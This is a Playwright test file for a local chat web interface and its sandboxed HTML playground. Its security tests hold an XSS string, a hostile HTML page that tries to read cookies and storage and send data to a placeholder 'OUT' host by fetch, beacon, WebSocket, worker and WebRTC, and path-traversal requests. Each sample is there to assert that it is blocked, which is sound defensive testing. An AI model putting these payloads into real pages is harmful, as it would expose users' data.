"""The page in headless Chromium: what a person does, and what HTML that a model wrote cannot do.

Needs Playwright and a Chromium of the system; SCREENSHOTS=DIRECTORY keeps pictures to be looked at.
"""

import http.server
import json
import os
import re
import shutil
import socket
import threading
from pathlib import Path

import pytest

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
if CHROMIUM is None:
    pytest.skip("there is no Chromium", allow_module_level=True)
expect = playwright.expect


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as found:
        browser = found.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser, live):
    """A page that has made no mistake when the test is over."""
    context = browser.new_context(base_url=str(live.client.base_url), viewport={"width": 1280, "height": 800})
    page, problems = context.new_page(), []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto("/")
    expect(page.locator("#model")).to_have_text("tiny")
    yield page
    context.close()
    assert not problems


def picture(page, name):
    if directory := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=Path(directory) / f"{name}.png")


def script(page, *replies):
    """Lets the server answer with these chunks, one reply after the other."""
    waiting = list(replies)

    def answer(route):
        chunks = [{"choices": [{"index": 0, "delta": delta, "token_ids": [1, 2]}]} for delta in waiting.pop(0)]
        text = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=text)

    page.route("**/v1/chat/completions", answer)


def ask(page, text):
    page.locator("#said").fill(text)
    page.locator("#said").press("Enter")


def test_a_model_answers_and_is_stopped(page, live):
    page.evaluate("localStorage.setItem('m1jax.settings', JSON.stringify({max_tokens: 30}))")
    page.reload()
    ask(page, "Say something")
    expect(page.locator("#status")).to_have_text(re.compile(r"^\d+ tokens"))
    expect(page.locator("#send")).to_be_visible()
    page.evaluate("localStorage.setItem('m1jax.settings', JSON.stringify({max_tokens: 900, temperature: 2}))")
    page.reload()
    page.locator(".open").first.click()
    ask(page, "Say more")
    expect(page.locator("#stop")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#send")).to_be_visible()
    assert live.at_rest()
    assert page.locator("#messages > li").count() == 4


def test_thoughts_code_and_calls(page):
    html = "<!doctype html><p id=x>made</p>"
    call = {"index": 0, "id": "c1", "type": "function", "function": {"name": "add", "arguments": '{"a": 1}'}}
    script(
        page,
        [
            {"role": "assistant", "reasoning_content": "A plan <b>bold</b>"},
            {"content": f"Here <img src=x onerror=alert(1)>:\n```html\n{html}\n```\nDone."},
        ],
        [{"tool_calls": [call]}],
        [{"content": "It is 2."}],
    )
    ask(page, "Make a page")
    details = page.locator("details")
    assert not details.evaluate("e => e.open")
    details.locator("summary").click()
    expect(details).to_contain_text("A plan <b>bold</b>")
    expect(page.locator("#messages")).to_contain_text("<img src=x onerror=alert(1)>")
    assert page.locator("#messages img").count() == 0
    picture(page, "chat")
    page.get_by_title("Run in the playground").click()
    expect(page.frame_locator("#frame iframe").locator("#x")).to_have_text("made")
    page.locator("#close-playground").click()
    ask(page, "Add")
    expect(page.locator(".call code")).to_have_text('add({"a": 1})')
    page.locator(".call input").fill("2")
    picture(page, "call")
    page.locator(".call input").press("Enter")
    expect(page.locator("#messages > li").last).to_contain_text("It is 2.")


def test_conversations_are_kept_edited_and_deleted(page):
    script(page, *[[{"content": f"answer {n}"}] for n in range(4)])
    ask(page, "first")
    expect(page.locator("#messages")).to_contain_text("answer 0")
    ask(page, "second")
    expect(page.locator("#messages")).to_contain_text("answer 1")
    page.get_by_title("Edit and ask again").first.click()
    expect(page.locator("#said")).to_have_value("first")
    ask(page, "changed")
    expect(page.locator("#messages")).to_contain_text("answer 2")
    assert page.locator("#messages > li").count() == 2
    page.reload()
    page.locator(".open", has_text="changed").click()
    expect(page.locator("#messages")).to_contain_text("answer 2")
    page.get_by_title("Delete this conversation").click()
    assert page.locator("#messages > li").count() == 0
    assert page.evaluate("localStorage.getItem('m1jax.conversations')") == "[]"


def test_settings_and_errors(page):
    page.locator("#open-settings").click()
    page.locator("[name=tools]").fill("{")
    page.get_by_role("button", name="Save").click()
    expect(page.locator("#settings-error")).to_contain_text("Tools:")
    page.locator("[name=tools]").fill('[{"type": "function", "function": {"name": ""}}]')
    page.get_by_role("button", name="Save").click()
    ask(page, "hi")
    expect(page.locator("#messages .error")).to_contain_text("tools[0].function.name")
    assert page.evaluate("localStorage.getItem('m1jax.settings')").count("key") == 0


def test_by_keyboard_alone(page):
    script(page, [{"content": "```html\n<p id=x>made</p>\n```"}])
    expect(page.locator("#said")).to_be_focused()
    page.keyboard.type("go")
    page.keyboard.press("Enter")
    run = page.get_by_title("Run in the playground")
    expect(run).to_be_visible()
    for _ in range(12):
        if run.evaluate("e => e === document.activeElement"):
            break
        page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    expect(page.frame_locator("#frame iframe").locator("#x")).to_be_visible()
    expect(page.locator("#source")).to_be_focused()
    page.keyboard.press("Control+A")
    page.keyboard.type("<p id=y>typed</p>")
    page.keyboard.press("Control+Enter")
    expect(page.frame_locator("#frame iframe").locator("#y")).to_have_text("typed")
    page.keyboard.press("Escape")
    expect(page.locator("#playground")).to_be_hidden()


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("width", [320, 1280])
def test_narrow_and_dark(page, width, dark):
    script(page, [{"reasoning_content": "hm", "content": "word " * 60 + "x" * 300 + "\n```py\n" + "y" * 300 + "\n```"}])
    page.emulate_media(color_scheme="dark" if dark else "light")
    page.set_viewport_size({"width": width, "height": 640})
    ask(page, "A long question " * 10)
    expect(page.locator("#messages")).to_contain_text("word")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    brightness = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)[0]")
    assert (brightness < 60) == dark
    if width == 320:
        page.locator("#menu").click()
        expect(page.locator("#new")).to_be_visible()
        picture(page, f"menu-{'dark' if dark else 'light'}")
        page.locator(".open").click()
        expect(page.locator("#new")).to_be_hidden()
    picture(page, f"{width}-{'dark' if dark else 'light'}")
    page.locator("#open-playground").click()
    page.get_by_role("button", name="Maze").click()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    expect(page.frame_locator("#frame iframe").locator("#solve")).to_be_visible()
    picture(page, f"play-{width}-{'dark' if dark else 'light'}")


def test_the_gallery_works(page):
    page.locator("#open-playground").click()
    frame = page.frame_locator("#frame iframe")
    page.get_by_role("button", name="Flip card").click()
    frame.locator(".card").click()
    expect(frame.locator(".card")).to_have_attribute("aria-pressed", "true")
    page.wait_for_timeout(900)
    picture(page, "flip-card")
    page.get_by_role("button", name="Particles").click()
    frame.locator("canvas").click()
    page.wait_for_timeout(500)
    pixels = "c => Math.max(...c.getContext('2d').getImageData(0, 0, c.width, 40).data.filter((v, i) => i % 4 < 3))"
    assert frame.locator("canvas").evaluate(pixels) > 100
    picture(page, "particles")
    page.get_by_role("button", name="Typing speed").click()
    text = frame.locator("#text").text_content()
    frame.locator("input").press_sequentially(text, delay=10)
    expect(frame.locator("input")).to_be_disabled()
    expect(frame.locator("#accuracy")).to_have_text("100 %")
    assert int(frame.locator("#speed").text_content()) > 0
    picture(page, "typing-speed")
    page.get_by_role("button", name="Maze").click()
    frame.locator("#solve").click()
    expect(frame.locator("output")).to_contain_text("steps", timeout=30_000)
    picture(page, "maze")


@pytest.fixture
def outside():
    """A server elsewhere on this machine, and what it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(server.server_address)
        datagrams.setblocking(False)
        yield f"http://127.0.0.1:{server.server_port}", asked, datagrams
    server.shutdown()
    thread.join()
    server.server_close()


HOSTILE = """
<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">
<link rel=stylesheet href=OUT/css><link rel=prefetch href=OUT/prefetch><link rel=preconnect href=OUT/preconnect>
<img src=OUT/img><script src=OUT/script></script><iframe src=OUT/frame></iframe><object data=OUT/object></object>
<video src=OUT/video></video><style>@import url(OUT/import); p { background: url(OUT/background) }</style><p>p
<form action=OUT/form method=post id=form><input name=a></form><a id=a href=OUT/link target=_blank ping=OUT/ping>a</a>
<base href=OUT/>
<iframe srcdoc="<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:OUT'.replace('http://', '')}]});
p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));</script>"></iframe>
<script>
const seen = [];
function attempt(name, action) {
  try { seen.push(name + ": " + action()); } catch (e) { seen.push(name + " failed"); }
}
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "OUT/top"; return "done"; });
attempt("open", () => open("OUT/open"));
attempt("form", () => form.submit());
attempt("link", () => a.click());
attempt("beacon", () => navigator.sendBeacon("OUT/beacon", "x"));
attempt("socket", () => { new WebSocket("OUT/socket".replace("http", "ws")); return "made"; });
attempt("source", () => { new EventSource("OUT/events"); return "made"; });
attempt("worker", () => { new Worker("data:text/javascript,fetch('OUT/worker')"); return "made"; });
attempt("image", () => { new Image().src = "OUT/image"; return "made"; });
attempt("peer", () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:OUT".replace("http://", "")}]});
  p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)); return "made"; });
attempt("alert", () => alert(1));
fetch("OUT/fetch").then(() => seen.push("fetched"), () => seen.push("fetch failed"));
fetch("HERE/v1/models").then(() => seen.push("fetched the page's"), () => seen.push("fetch failed"));
setTimeout(() => { document.body.dataset.seen = seen.join("; "); }, 800);
setTimeout(() => { location = "OUT/location"; }, 1600);
</script>
"""


def test_hostile_html_reaches_nothing(page, live, outside):
    place, asked, datagrams = outside
    here, dialogs = str(live.client.base_url), []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    requests = []
    page.context.on("request", lambda request: requests.append(request.url))
    page.locator("#open-playground").click()
    requests.clear()
    page.locator("#source").fill(HOSTILE.replace("OUT", place).replace("HERE", here.rstrip("/")))
    page.locator("#run").click()
    body = page.frame_locator("#frame iframe").locator("body[data-seen]")
    seen = body.get_attribute("data-seen")
    for name in ("cookie", "storage", "parent", "peer"):
        assert f"{name} failed" in seen
    assert "fetched" not in seen
    page.wait_for_timeout(1500)
    assert asked == []
    with pytest.raises(BlockingIOError):
        datagrams.recv(100)
    assert not dialogs
    assert page.url.rstrip("/") == here.rstrip("/")
    assert len(page.context.pages) == 1
    expect(page.locator("#model")).to_have_text("tiny")  # the page is as it was


def test_a_message_from_elsewhere_runs_nothing(page):
    """The frame listens to the page above it alone, and the page to nobody."""
    page.locator("#open-playground").click()
    page.locator("#source").fill("<p id=x>one</p><script>parent.postMessage('ready', '*')</script>")
    page.locator("#run").click()
    frame = page.frame_locator("#frame iframe")
    expect(frame.locator("#x")).to_have_text("one")
    page.wait_for_timeout(300)
    assert frame.locator("#x").count() == 1


def test_policies(live):
    for path in ("/", "/page/page.js", "/page/preview.html"):
        headers = live.client.get(path).headers
        assert "content-security-policy" in headers
        assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox allow-scripts" in live.client.get("/page/preview.html").headers["content-security-policy"]
    assert live.client.get("/page/../app.py").status_code == 404
    assert live.client.get("/page/%2e%2e/app.py").status_code == 404
    for name in Path("m1jax/serve/page").rglob("*.*"):
        assert not re.findall(r"https?://(?!127)", name.read_text()), name
